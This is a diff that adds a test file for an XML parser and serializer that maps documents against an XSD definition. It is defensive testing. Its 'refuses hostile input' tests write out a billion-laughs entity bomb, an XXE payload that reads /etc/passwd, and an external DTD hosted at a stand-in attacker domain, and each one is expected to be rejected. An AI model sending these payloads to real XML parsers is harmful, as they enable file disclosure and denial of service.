@@ -1,0 +1,227 @@
+import { beforeAll, describe, expect, it } from 'vitest';
+import { MappingError } from './errors.js';
+import { loadMessageDefinition } from './load-definition.js';
+import type { MessageDefinition } from './message-definition.js';
+import { caught, fixturePath, readFixture } from './test-support.js';
+import { parseXml, serializeXml } from './xml.js';
+import { xsdToDefinition } from './xsd.js';
+
+let order: MessageDefinition;
+beforeAll(async () => {
+  order = await loadMessageDefinition(fixturePath('order.xsd'));
+});
+
+async function refusal(text: string, limits = {}): Promise<MappingError> {
+  const error = await caught(() => parseXml(text, { limits }));
+  expect(error).toBeInstanceOf(MappingError);
+  return error as MappingError;
+}
+
+describe('parseXml', () => {
+  it('parses without a definition: local names, attributes as @name, repeated elements as arrays', () => {
+    const document = parseXml(
+      '<a:root xmlns:a="urn:a" kind="x"><a:item>1</a:item><a:item>2</a:item><a:one>&lt;ok&gt; &#65;</a:one></a:root>',
+    );
+    expect(document.root).toEqual({ name: 'root', namespace: 'urn:a' });
+    expect(document.value).toEqual({ '@kind': 'x', item: ['1', '2'], one: '<ok> A' });
+  });
+
+  it('shapes the value by the definition: arrays, numbers, text of elements with attributes', async () => {
+    const document = parseXml(await readFixture('order-pickup.xml'), { definition: order });
+    expect(document.root).toEqual({ name: 'Order', namespace: 'urn:example:orders:1' });
+    expect(document.value).toEqual({
+      '@id': 'PO-20001',
+      OrderDate: '2026-03-15T14:00:00+01:00',
+      Customer: { Name: 'Jansen' },
+      PickupPoint: 'AMS-04',
+      Line: [
+        {
+          '@number': 1,
+          '@status': 'C',
+          Sku: 'BRK-001',
+          Quantity: 1,
+          UnitPrice: { '@currency': 'EUR', '#text': 4.5 },
+        },
+      ],
+    });
+  });
+
+  it('keeps CDATA text, even when it looks like markup', () => {
+    const document = parseXml('<note><![CDATA[<!DOCTYPE x> & <b>]]></note>');
+    expect(document.value).toBe('<!DOCTYPE x> & <b>');
+  });
+
+  it('checks the root element and its namespace against the definition', async () => {
+    const wrongNamespace = await caught(() =>
+      parseXml('<Order xmlns="urn:example:orders:2" id="PO-1"/>', { definition: order }),
+    );
+    expect(wrongNamespace).toMatchObject({ reason: 'XML_WRONG_ROOT', code: 'INVALID_INPUT' });
+    expect((wrongNamespace as Error).message).toContain(
+      "expected <Order> in namespace 'urn:example:orders:1'",
+    );
+    const wrongName = await caught(() =>
+      parseXml('<Invoice xmlns="urn:example:orders:1"/>', { definition: order }),
+    );
+    expect(wrongName).toMatchObject({ reason: 'XML_WRONG_ROOT' });
+  });
+
+  it('reports malformed XML with line and column', async () => {
+    const error = await refusal('<order>\n  <line>1</lines>\n</order>');
+    expect(error.reason).toBe('XML_MALFORMED');
+    expect(error.message).toMatch(/at 2:\d+/);
+  });
+});
+
+describe('parseXml refuses hostile input', () => {
+  it('refuses a billion laughs document without expanding it', async () => {
+    const laughs = [
+      '<?xml version="1.0"?>',
+      '<!DOCTYPE lolz [',
+      ' <!ENTITY lol "lol">',
+      ...Array.from(
+        { length: 9 },
+        (_, level) => ` <!ENTITY lol${level + 1} "${`&lol${level === 0 ? '' : level};`.repeat(10)}">`,
+      ),
+      ']>',
+      '<lolz>&lol9;</lolz>',
+    ].join('\n');
+    const error = await refusal(laughs);
+    expect(error.reason).toBe('XML_DOCTYPE');
+    expect(error.code).toBe('INVALID_INPUT');
+    expect(error.message).toContain('DOCTYPE declaration at 2:1');
+  });
+
+  it('refuses external entities (XXE)', async () => {
+    const error = await refusal('<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>');
+    expect(error.reason).toBe('XML_DOCTYPE');
+    expect(error.message).not.toContain('root:');
+  });
+
+  it('refuses an external DTD', async () => {
+    const error = await refusal('<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>');
+    expect(error.reason).toBe('XML_DOCTYPE');
+  });
+
+  it('refuses references to entities that were never declared', async () => {
+    const error = await refusal('<r>&lol9;</r>');
+    expect(error.reason).toBe('XML_MALFORMED');
+    expect(error.message).toContain("'&lol9;'");
+  });
+
+  it('refuses text beyond the size limit before parsing', async () => {
+    const big = `<r>${'<i>x</i>'.repeat(2000)}</r>`;
+    const error = await refusal(big, { maxBytes: 10_000 });
+    expect(error.reason).toBe('XML_TOO_LARGE');
+    expect(error.message).toContain('limit of 10000');
+    expect(parseXml(big, { limits: { maxBytes: 100_000 } }).value).toMatchObject({ i: expect.any(Array) });
+  });
+
+  it('refuses nesting beyond the depth limit', async () => {
+    const deep = `${'<d>'.repeat(100_000)}${'</d>'.repeat(100_000)}`;
+    const error = await refusal(deep);
+    expect(error.reason).toBe('XML_TOO_DEEP');
+    expect(error.message).toContain('limit of 64');
+    const shallow = `${'<d>'.repeat(5)}${'</d>'.repeat(5)}`;
+    expect((await refusal(shallow, { maxDepth: 4 })).reason).toBe('XML_TOO_DEEP');
+    expect(parseXml(shallow, { limits: { maxDepth: 5 } }).root.name).toBe('d');
+  });
+
+  it('refuses more elements than the element limit', async () => {
+    const wide = `<r>${'<i/>'.repeat(101)}</r>`;
+    expect((await refusal(wide, { maxElements: 100 })).reason).toBe('XML_TOO_MANY_ELEMENTS');
+  });
+
+  it('refuses a document with no root element', async () => {
+    expect((await refusal('just text')).reason).toBe('XML_MALFORMED');
+  });
+});
+
+describe('serializeXml', () => {
+  it('writes attributes, the XSD sequence order and the namespace, whatever the property order', async () => {
+    const text = serializeXml(
+      {
+        Note: 'a < b & c',
+        Line: [{ UnitPrice: { '#text': 2, '@currency': 'EUR' }, Quantity: 1, Sku: 'ABC-001', '@number': 1 }],
+        PickupPoint: 'AMS-04',
+        Customer: { Name: 'Ada "A" Lovelace', '@vatId': 'x"y' },
+        OrderDate: '2026-01-01T00:00:00Z',
+        '@id': 'PO-0001',
+      },
+      order,
+      { indent: '' },
+    );
+    expect(text).toBe(
+      '<?xml version="1.0" encoding="UTF-8"?>' +
+        '<Order xmlns="urn:example:orders:1" id="PO-0001">' +
+        '<OrderDate>2026-01-01T00:00:00Z</OrderDate>' +
+        '<Customer vatId="x&quot;y"><Name>Ada "A" Lovelace</Name></Customer>' +
+        '<PickupPoint>AMS-04</PickupPoint>' +
+        '<Line number="1"><Sku>ABC-001</Sku><Quantity>1</Quantity><UnitPrice currency="EUR">2</UnitPrice></Line>' +
+        '<Note>a &lt; b &amp; c</Note>' +
+        '</Order>',
+    );
+  });
+
+  it('uses a prefix when local elements are unqualified', () => {
+    const definition = xsdToDefinition(
+      `<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:inv="urn:invoice" targetNamespace="urn:invoice">
+         <xs:element name="Invoice"><xs:complexType><xs:sequence>
+           <xs:element name="Number" type="xs:string"/>
+           <xs:element ref="inv:Total"/>
+         </xs:sequence></xs:complexType></xs:element>
+         <xs:element name="Total" type="xs:decimal"/>
+       </xs:schema>`,
+    );
+    const text = serializeXml({ Total: 10.5, Number: 'INV-1' }, definition, {
+      declaration: false,
+      indent: '',
+    });
+    expect(text).toBe(
+      '<inv:Invoice xmlns:inv="urn:invoice"><Number>INV-1</Number><inv:Total>10.5</inv:Total></inv:Invoice>',
+    );
+    expect(parseXml(text, { definition }).value).toEqual({ Number: 'INV-1', Total: 10.5 });
+  });
+
+  it('refuses properties the definition does not know, naming the path', async () => {
+    const error = await caught(() => serializeXml({ Customer: { Name: 'A', Phone: '1' } }, order));
+    expect(error).toMatchObject({ reason: 'MAPPING_FAILED', path: '$.Customer.Phone' });
+  });
+
+  it('refuses a JSON definition', async () => {
+    const error = await caught(() => serializeXml({}, { format: 'json', schema: {}, source: 'code' }));
+    expect(error).toMatchObject({ reason: 'DEFINITION_INVALID' });
+  });
+});
+
+describe('parseXml namespaces', () => {
+  it('drops prefixes, namespace declarations and xsi attributes, and reads xsi:nil as null', () => {
+    const document = parseXml(
+      `<a:r xmlns:a="urn:a" xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="urn:a a.xsd" a:q="1" b="2">
+         <a:x i:nil="true"/><a:y i:type="a:Special">text</a:y><z xmlns="urn:z" xmlns:i="urn:not-xsi" i:nil="true">3</z>
+       </a:r>`,
+    );
+    expect(document.value).toEqual({
+      '@q': '1',
+      '@b': '2',
+      x: null,
+      y: 'text',
+      z: { '@nil': 'true', '#text': '3' },
+    });
+  });
+});
+
+describe('refusals do not echo message content', () => {
+  const canary = 'CANARY-7f3a9-do-not-print';
+  it.each([
+    ['a DOCTYPE', `<!DOCTYPE r [<!ENTITY s "${canary}">]><r>&s;</r>`, {}],
+    ['too large', `<r><password>${canary}</password></r>`, { maxBytes: 10 }],
+    ['too deep', `<r><a><password>${canary}</password></a></r>`, { maxDepth: 2 }],
+    ['malformed', `<r><password>${canary}</pass></r>`, {}],
+    ['an undeclared entity', `<r><password>${canary}&x;</password></r>`, {}],
+  ])('%s', async (_name, text, limits) => {
+    const error = await refusal(text, limits);
+    expect(error.message).not.toContain(canary);
+    expect(JSON.stringify(error.toJSON())).not.toContain(canary);
+    expect(String(error.stack)).not.toContain(canary);
+  });
+});
